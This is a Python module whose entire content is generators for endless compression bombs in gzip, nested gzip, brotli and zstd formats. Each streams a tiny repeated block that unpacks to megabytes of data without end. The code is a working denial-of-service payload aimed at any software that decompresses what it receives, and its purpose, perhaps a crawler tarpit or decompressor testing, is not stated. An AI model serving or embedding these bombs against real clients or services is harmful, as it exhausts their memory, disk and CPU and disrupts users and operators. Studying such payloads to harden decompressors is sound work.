"""Compressed bombs that are never built: one small block that unpacks to a megabyte or so, sent again and again."""

from __future__ import annotations

import zlib
from collections.abc import Iterator
from itertools import chain, repeat

import brotli

__all__ = ["brotli_bomb", "gzip_bomb", "nested_gzip_bomb", "zstd_bomb"]

_MEGABYTE = b"a" * (1 << 20)
_GZIP_HEAD = b"\x1f\x8b\x08" + bytes(6) + b"\x03"
_BATCH = 16  # blocks sent at a time


def gzip_bomb() -> Iterator[bytes]:
    """A kilobyte a megabyte, without end."""
    # after a full flush nothing refers back, so the block can stand after itself
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(_MEGABYTE) + packer.flush(zlib.Z_FULL_FLUSH)
    return chain([_GZIP_HEAD], repeat(block * _BATCH))


def nested_gzip_bomb() -> Iterator[bytes]:
    """A gzip bomb packed a second time: a few bytes for each megabyte."""
    inner = gzip_bomb()
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = packer.compress(next(inner)) + packer.flush(zlib.Z_FULL_FLUSH)
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(next(inner) * _BATCH) + packer.flush(zlib.Z_FULL_FLUSH)
    return chain([_GZIP_HEAD, first], repeat(block))


def brotli_bomb() -> Iterator[bytes]:
    """Some 20 bytes a megabyte, without end."""
    packer = brotli.Compressor(quality=9)
    first = packer.process(_MEGABYTE) + packer.flush()
    # the second block refers to the letters before it and ends as it began, so the third may be the same bytes
    block = packer.process(_MEGABYTE) + packer.flush()
    return chain([first], repeat(block * _BATCH))


def zstd_bomb() -> Iterator[bytes]:
    """Four bytes for 128 KiB, without end: run-length blocks (RFC 8878, section 3.1.1.2) in a frame of unknown size."""
    frame = b"\x28\xb5\x2f\xfd" + b"\x00" + bytes([7 << 3])  # window of 2^17 bytes
    run_length = (131_072 << 3 | 1 << 1).to_bytes(3, "little") + b"a"
    return chain([frame], repeat(run_length * _BATCH))
